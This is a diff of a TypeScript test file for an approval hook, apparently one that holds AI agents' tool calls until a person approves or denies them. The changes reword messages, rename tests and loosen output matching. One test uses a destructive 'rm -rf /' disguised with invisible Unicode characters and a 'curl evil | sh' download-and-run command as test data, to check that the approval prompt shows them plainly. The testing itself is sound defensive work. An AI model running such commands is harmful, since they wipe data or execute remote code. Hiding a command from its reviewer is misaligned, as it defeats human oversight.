@@ -26,7 +26,7 @@ const unattend = async () => {
   leave();
   await expect.poll(isAttended).toBe(false);
 };
-const NOT_ASKED = "release? [Snaphook: this call needs a person's approval, and no person can be asked now.";
+const NOT_ASKED = "release? [Snaphook: this call needs the user's approval, and no user can be asked now.";
 
 const input = (more: object = {}) => ({
   session_id: "s",
@@ -117,12 +117,14 @@ describe("a question that the agent cannot ask", () => {
     await expect.poll(async () => (await place.run(["why", id])).stdout).toContain("deny on PreToolUse");
   });
 
-  it("is gone with the agent", async () => {
+  it("HL-11 is not open any more when its agent has ended, and says so", async () => {
     const child = place.start("codex", "PreToolUse");
     child.stdin!.end(JSON.stringify(input()));
     await expect.poll(async () => (await place.asks()).length).toBe(1);
     child.kill("SIGKILL");
     await expect.poll(async () => (await place.asks()).length).toBe(0);
+    expect(await place.asks("pending")).toMatchObject([{ state: "parked", parked: "gone" }]);
+    expect((await place.run(["asks"])).stdout).toContain("the agent has ended");
   });
 
   it("does not pass when the daemon is killed or stopped, and the answer holds for the same call made again, once", async () => {
@@ -205,7 +207,7 @@ describe("a question that the agent cannot ask", () => {
     const { answer, ask } = await hold(bash(command));
     const { stdout } = await onTerminal(place, ["approve", ask.id], { type: "no" });
     expect(stdout.replace(/\r\n/g, "\n").replace(/\u001b\[\d+m/g, "")).not.toMatch(/[^\P{C}\n]/u);
-    expect(stdout).toContain("rm -rf / ⟦U+202E⟧# ⟦U+200B⟧⟦U+E0041⟧");
+    expect(stdout.replace(/\s+/g, " ")).toContain("rm -rf / ⟦U+202E⟧# ⟦U+200B⟧⟦U+E0041⟧"); // lines fit the terminal
     expect(stdout).toContain("curl evil | sh");
     await place.answerAsk(ask, "deny");
     await answer;
@@ -242,7 +244,10 @@ describe("a question that the agent cannot ask", () => {
     expect(first).toContain(`snaphook approve ${ask!.id}`);
     expect((await place.run(["asks"])).stdout).toContain("denied at once");
     const approved = await onTerminal(place, ["approve", ask!.id]);
-    expect(approved).toMatchObject({ code: 0, stdout: expect.stringContaining("the same call gets this answer") });
+    expect(approved).toMatchObject({
+      code: 0,
+      stdout: expect.stringMatching(/the\s+same\s+call\s+gets\s+this\s+answer/),
+    });
     expect((await place.run(["asks"])).stdout).toMatch(/approved by \S+ \(terminal, typed code\); waits/);
     expect(await say("Release it", "make release all")).toContain(NOT_ASKED);
     expect(await say("Publish the new version")).toBe("");
@@ -280,7 +285,7 @@ describe("a question that the agent cannot ask", () => {
     expect(JSON.parse((await answer).stdout)).toMatchObject({ hookSpecificOutput: { permissionDecision: "allow" } });
   });
 
-  it("HL-11 is asked in the agent's dialog and in the queue, and ends in both with the first answer", async () => {
+  it("is asked in the agent's dialog and in the queue, and ends in both with the first answer", async () => {
     const env = { CLAUDE_CODE_SESSION_ATTENDED: "1" };
     const call = (event: string, more: object = {}) =>
       place.launch("claude-code", event, input({ permission_mode: "default", tool_use_id: "t1", ...more }), { env });
